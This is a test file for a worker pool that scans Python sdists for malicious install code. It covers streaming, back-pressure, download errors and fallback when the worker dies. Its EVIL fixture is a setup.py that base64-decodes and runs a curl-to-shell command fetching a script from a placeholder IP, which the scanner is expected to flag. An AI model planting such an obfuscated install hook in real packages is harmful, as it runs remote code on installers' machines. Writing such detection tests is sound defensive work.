// The analysis worker's protocol, run over a real MessageChannel: the same checks as in-thread,
// chunks sent no faster than the worker takes them, download failures and early stops passed
// through, and a worker that dies turns its pending checks into errors, never clean results.

import { randomBytes } from 'node:crypto';
import { EventEmitter } from 'node:events';
import { MessageChannel, type MessagePort } from 'node:worker_threads';

import { makeSdist, makeTar, gzip } from './helpers/archives.js';
import { CheckPool, checkContents, readAndAnalyze, serveChecks, type Endpoint } from '../src/offload/index.js';

const EVIL = `
import os, subprocess, base64
from setuptools import setup
cmd = base64.b64decode("Y3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjcvYS5zaCB8IHNo").decode()
subprocess.Popen(cmd, shell=True)
setup(name="evil", version="1.0")
`;

const evil = makeSdist('evil', '1.0', { 'setup.py': EVIL });
const plain = makeSdist('plain', '1.0');

/** A download as the index client gives it: chunks, then the end or an error; records what was read. */
class Stream implements AsyncIterable<Uint8Array> {
  pulled = 0;
  closed = false;
  finished = false;
  constructor(
    private readonly data: Uint8Array,
    private readonly chunk = 1024,
    private readonly failAt?: { chunk: number; message: string },
  ) {}

  async *[Symbol.asyncIterator](): AsyncGenerator<Uint8Array> {
    try {
      for (let at = 0, i = 0; at < this.data.length; at += this.chunk, i++) {
        if (this.failAt && i === this.failAt.chunk) throw new Error(this.failAt.message);
        this.pulled++;
        // a view into a bigger buffer, as pooled network buffers are
        yield this.data.subarray(at, at + this.chunk);
      }
      this.finished = true;
    } finally {
      this.closed = true;
    }
  }
}

interface Channel {
  pool: CheckPool;
  worker: MessagePort;
  events: EventEmitter;
  close(): void;
}

/** A pool whose worker is serveChecks on the other end of a MessageChannel. */
async function channelPool(serve = true): Promise<Channel> {
  const { port1, port2 } = new MessageChannel();
  const events = new EventEmitter();
  const port = Object.assign(events, {
    postMessage: (m: unknown, transfer?: readonly ArrayBuffer[]) => port1.postMessage(m, transfer as ArrayBuffer[]),
  });
  port1.on('message', (m) => events.emit('message', m));
  const endpoint: Endpoint = { port: port as unknown as Endpoint['port'], terminate: async () => void port2.close() };
  const pool = new CheckPool(() => endpoint);
  if (serve) {
    serveChecks(port2);
    // the first check starts the worker, and is checked there once the worker said it is ready
    await pool.check(plain.filename, new Stream(plain.data));
  } else (pool as unknown as { start(): void }).start();
  await new Promise((r) => setImmediate(r));
  return {
    pool,
    worker: port2,
    events,
    close: () => {
      port1.close();
      port2.close();
    },
  };
}

describe('CheckPool over a message channel', () => {
  it('gives the same check as reading in-thread, for a suspicious and a plain sdist', async () => {
    const ch = await channelPool();
    try {
      for (const s of [evil, plain]) {
        const size = s.data.byteLength;
        const remote = await ch.pool.check(s.filename, new Stream(s.data, 333));
        // the chunks handed to the worker were copies: the caller's bytes are intact
        expect(s.data.byteLength).toBe(size);
        const whole = await ch.pool.check(s.filename, new Stream(s.data, size));
        expect(s.data.byteLength).toBe(size);
        expect(whole).toEqual(remote);
        const local = await readAndAnalyze(s.filename, s.data);
        expect(remote).toEqual(local);
      }
      expect((await ch.pool.check(evil.filename, new Stream(evil.data))).suspicious).toBe(true);
      expect(ch.pool.counts).toEqual({ local: 0, worker: 6 });
    } finally {
      ch.close();
    }
  });

  it('sends an sdist of one chunk as one message, and gets one back', async () => {
    const ch = await channelPool();
    const sent: string[] = [];
    const received: string[] = [];
    const post = (ch.pool as unknown as { endpoint: Endpoint }).endpoint.port.postMessage.bind((ch.pool as unknown as { endpoint: Endpoint }).endpoint.port);
    (ch.pool as unknown as { endpoint: Endpoint }).endpoint.port.postMessage = (m: unknown, t?: readonly ArrayBuffer[]) => {
      sent.push((m as { t: string }).t);
      post(m, t);
    };
    ch.events.on('message', (m: { t: string }) => received.push(m.t));
    try {
      const one = await ch.pool.check(evil.filename, new Stream(evil.data, evil.data.length));
      expect(one.suspicious).toBe(true);
      expect([sent, received]).toEqual([['start'], ['result']]);
      sent.length = received.length = 0;
      // three chunks: the first with the start, the last with the end; a credit for each taken before the end came
      const three = await ch.pool.check(evil.filename, new Stream(evil.data, Math.ceil(evil.data.length / 3)));
      expect(three).toEqual(one);
      expect(sent).toEqual(['start', 'chunk', 'chunk']);
      expect(received.filter((t) => t === 'credit').length).toBeLessThanOrEqual(2);
      expect(received.at(-1)).toBe('result');
    } finally {
      ch.close();
    }
  });

  it('runs several checks at once', async () => {
    const ch = await channelPool();
    try {
      const results = await Promise.all([evil, plain, evil, plain].map((s) => ch.pool.check(s.filename, new Stream(s.data, 100))));
      expect(results.map((r) => r.suspicious)).toEqual([true, false, true, false]);
    } finally {
      ch.close();
    }
  });

  it('sends no more than a window of chunks ahead of the worker', async () => {
    const ch = await channelPool(false);
    try {
      // nobody serves: the pool may send its window and must then wait
      (ch.pool as unknown as { state: string }).state = 'ready';
      const stream = new Stream(new Uint8Array(100 * 1024), 1024);
      const pending = ch.pool.check('big-1.0.tar.gz', stream);
      for (let i = 0; i < 5; i++) await new Promise((r) => setImmediate(r));
      // 16 sent, and the one read after them, held until the worker takes one
      expect(stream.pulled).toBe(17);
      await ch.pool.close();
      await expect(pending).rejects.toThrow('the analysis worker was stopped');
      expect(stream.closed).toBe(true);
    } finally {
      ch.close();
    }
  });

  it('fails the check with the download error, as the in-thread read does', async () => {
    const ch = await channelPool();
    try {
      const message = 'hash mismatch for evil-1.0.tar.gz from http://127.0.0.1/x: expected sha256:00, got sha256:11';
      const remote = ch.pool.check(evil.filename, new Stream(evil.data, 64, { chunk: 3, message }));
      await expect(remote).rejects.toThrow(message);
      await expect(readAndAnalyze(evil.filename, new Stream(evil.data, 64, { chunk: 3, message }))).rejects.toThrow(message);
    } finally {
      ch.close();
    }
  });

  it('stops the download when the reader stops early', async () => {
    const ch = await channelPool();
    try {
      const big = gzip(makeTar([{ name: 'b-1.0/setup.py', content: 'print(1)\n' }, { name: 'b-1.0/blob', content: new Uint8Array(randomBytes(200_000)) }]));
      const stream = new Stream(big, 1024);
      const check = await ch.pool.check('b-1.0.tar.gz', stream, { maxDownloadBytes: 8 * 1024 });
      expect(check.limits.join('\n')).toContain('maxDownloadBytes');
      expect(stream.closed).toBe(true);
      expect(stream.finished).toBe(false);
      expect(stream.pulled).toBeLessThan(40);
    } finally {
      ch.close();
    }
  });

  it('reads a stream to its end so the download can verify it', async () => {
    const ch = await channelPool();
    try {
      const padded = gzip(makeTar([{ name: 'p-1.0/setup.py', content: 'from setuptools import setup\nsetup()\n' }, { name: 'p-1.0/data.bin', content: new Uint8Array(50_000) }]));
      const stream = new Stream(padded, 512);
      const check = await ch.pool.check('p-1.0.tar.gz', stream);
      expect(check.error).toBeUndefined();
      expect(stream.finished).toBe(true);
      expect(check.pkgInfo).toBeNull();
    } finally {
      ch.close();
    }
  });

  it('turns the checks of a worker that died into errors, then checks in-thread', async () => {
    const ch = await channelPool(false);
    try {
      (ch.pool as unknown as { state: string }).state = 'ready';
      const pending = ch.pool.check(evil.filename, new Stream(evil.data));
      await new Promise((r) => setImmediate(r));
      ch.events.emit('exit', 1);
      await expect(pending).rejects.toThrow('the analysis worker stopped (exit code 1)');
      const after = await ch.pool.check(evil.filename, new Stream(evil.data));
      expect(after.suspicious).toBe(true);
      expect(ch.pool.counts.local).toBe(1);
    } finally {
      ch.close();
    }
  });

  it('reads very large sdists here, and the rest here only until the worker is up', async () => {
    const ch = await channelPool();
    try {
      const before = { ...ch.pool.counts };
      const large = await ch.pool.check(evil.filename, new Stream(evil.data), undefined, 100 * 1024 * 1024);
      expect(large.suspicious).toBe(true);
      const small = await ch.pool.check(evil.filename, new Stream(evil.data), undefined, evil.data.length);
      expect(small).toEqual(large);
      expect(ch.pool.counts).toEqual({ local: before.local + 1, worker: before.worker + 1 });
    } finally {
      ch.close();
    }
  });

  /** A pool whose worker has not answered yet; `serve()` starts serving on its end. */
  function startingPool(held?: number): { pool: CheckPool; serve(): void; serveWith(analyze: typeof checkContents): void; close(): void } {
    const { port1, port2 } = new MessageChannel();
    const events = new EventEmitter();
    const port = Object.assign(events, { postMessage: (m: unknown, t?: readonly ArrayBuffer[]) => port1.postMessage(m, t as ArrayBuffer[]) });
    port1.on('message', (m) => events.emit('message', m));
    const pool = new CheckPool(() => ({ port: port as unknown as Endpoint['port'], terminate: async () => void port2.close() }), held);
    return { pool, serve: () => serveChecks(port2), serveWith: (analyze: typeof checkContents) => serveChecks(port2, readAndAnalyze, analyze), close: () => port1.close() };
  }
  const turns = async (n = 10) => {
    for (let i = 0; i < n; i++) await new Promise((r) => setImmediate(r));
  };

  it('while the worker starts, reads downloads to their end and checks them on it once it is up', async () => {
    const p = startingPool();
    try {
      const streams = [new Stream(plain.data, 100), new Stream(evil.data, 100), new Stream(plain.data, 100)];
      const checks = streams.map((st, i) => p.pool.check([plain, evil, plain][i]!.filename, st));
      await turns();
      // every download read (its connection free for the next request), none checked yet
      expect(streams.map((st) => st.finished)).toEqual([true, true, true]);
      expect(p.pool.counts).toEqual({ local: 0, worker: 0 });
      p.serve();
      expect((await Promise.all(checks)).map((c) => c.suspicious)).toEqual([false, true, false]);
      expect(p.pool.counts).toEqual({ local: 0, worker: 3 });
      // the bytes held were handed on whole: the same checks as reading in-thread
      expect(await checks[1]).toEqual(await readAndAnalyze(evil.filename, evil.data));
    } finally {
      await p.pool.close();
      p.close();
    }
  });

  it('past the bytes it may hold, reads the rest when the worker is up, and checks further downloads here', async () => {
    const p = startingPool(300);
    try {
      const first = new Stream(evil.data, 128);
      const held = p.pool.check(evil.filename, first);
      await turns();
      // 384 bytes read, the rest left on the connection
      expect(first.pulled).toBe(3);
      expect(first.finished).toBe(false);
      const here = await p.pool.check(plain.filename, new Stream(plain.data, 128));
      expect(here.suspicious).toBe(false);
      expect(p.pool.counts).toEqual({ local: 1, worker: 0 });
      p.serve();
      expect((await held).suspicious).toBe(true);
      expect(first.finished).toBe(true);
      expect(p.pool.counts).toEqual({ local: 1, worker: 1 });
      // what was held is given back: the next download is held again
      const again = new Stream(plain.data, 64);
      await p.pool.check(plain.filename, again);
      expect(p.pool.counts).toEqual({ local: 1, worker: 2 });
    } finally {
      await p.pool.close();
      p.close();
    }
  });

  it('fails a held download with the error that ended it, as the in-thread read does', async () => {
    const p = startingPool();
    try {
      const message = 'hash mismatch for evil-1.0.tar.gz from http://127.0.0.1/x: expected sha256:00, got sha256:11';
      const held = p.pool.check(evil.filename, new Stream(evil.data, 64, { chunk: 3, message }));
      held.catch(() => {});
      await turns();
      p.serve();
      await expect(held).rejects.toThrow(message);
    } finally {
      await p.pool.close();
      p.close();
    }
  });

  it('reads a very large sdist here and has the worker analyze what it holds, waiting for it to start', async () => {
    const p = startingPool();
    try {
      const analyzed: string[][] = [];
      const small = p.pool.check(plain.filename, new Stream(plain.data));
      const big = new Stream(evil.data, 64);
      const large = p.pool.check(evil.filename, big, undefined, 100 * 1024 * 1024);
      await turns();
      // read here to its end while the worker starts; analyzed there once it is up
      expect(big.finished).toBe(true);
      p.serveWith((contents) => {
        analyzed.push([...contents.files.keys()].sort());
        return checkContents(contents);
      });
      const check = await large;
      expect(check).toEqual(await readAndAnalyze(evil.filename, evil.data));
      expect(check.suspicious).toBe(true);
      expect(analyzed).toHaveLength(1);
      expect(analyzed[0]).toContain('setup.py');
      expect((await small).suspicious).toBe(false);
      expect(p.pool.counts).toEqual({ local: 1, worker: 1 });
    } finally {
      await p.pool.close();
      p.close();
    }
  });

  it('has the worker analyze a very large sdist that came first, once a later check started it', async () => {
    const p = startingPool();
    try {
      let open!: () => void;
      const gate = new Promise<void>((resolve) => (open = resolve));
      const big: AsyncIterable<Uint8Array> = {
        async *[Symbol.asyncIterator]() {
          yield evil.data.slice(0, 100);
          await gate;
          yield evil.data.slice(100);
        },
      };
      const large = p.pool.check(evil.filename, big, undefined, 100 * 1024 * 1024);
      await turns();
      const small = p.pool.check(plain.filename, new Stream(plain.data));
      const analyzed: string[] = [];
      p.serveWith((contents) => {
        analyzed.push(...contents.files.keys());
        return checkContents(contents);
      });
      open();
      expect((await large).suspicious).toBe(true);
      expect(analyzed).toContain('setup.py');
      expect((await small).suspicious).toBe(false);
    } finally {
      await p.pool.close();
      p.close();
    }
  });

  it('turns the analysis of a very large sdist into an error when the worker dies, never a clean result', async () => {
    const ch = await channelPool(false);
    try {
      (ch.pool as unknown as { state: string }).state = 'ready';
      const pending = ch.pool.check(evil.filename, new Stream(evil.data), undefined, 100 * 1024 * 1024);
      await turns();
      ch.events.emit('exit', 1);
      await expect(pending).rejects.toThrow('the analysis worker stopped (exit code 1)');
    } finally {
      ch.close();
    }
  });

  it('does not start a worker for a very large sdist alone', async () => {
    let started = 0;
    const pool = new CheckPool(() => {
      started++;
      return undefined;
    });
    await pool.check(evil.filename, new Stream(evil.data), undefined, 20 * 1024 * 1024);
    expect(started).toBe(0);
    await pool.check(evil.filename, new Stream(evil.data));
    expect(started).toBe(1);
    await pool.close();
  });

  it('checks in-thread when no worker can be started', async () => {
    const pool = new CheckPool(() => undefined);
    const check = await pool.check(evil.filename, new Stream(evil.data));
    expect(check.suspicious).toBe(true);
    expect(pool.counts).toEqual({ local: 1, worker: 0 });
    await pool.close();
  });
});
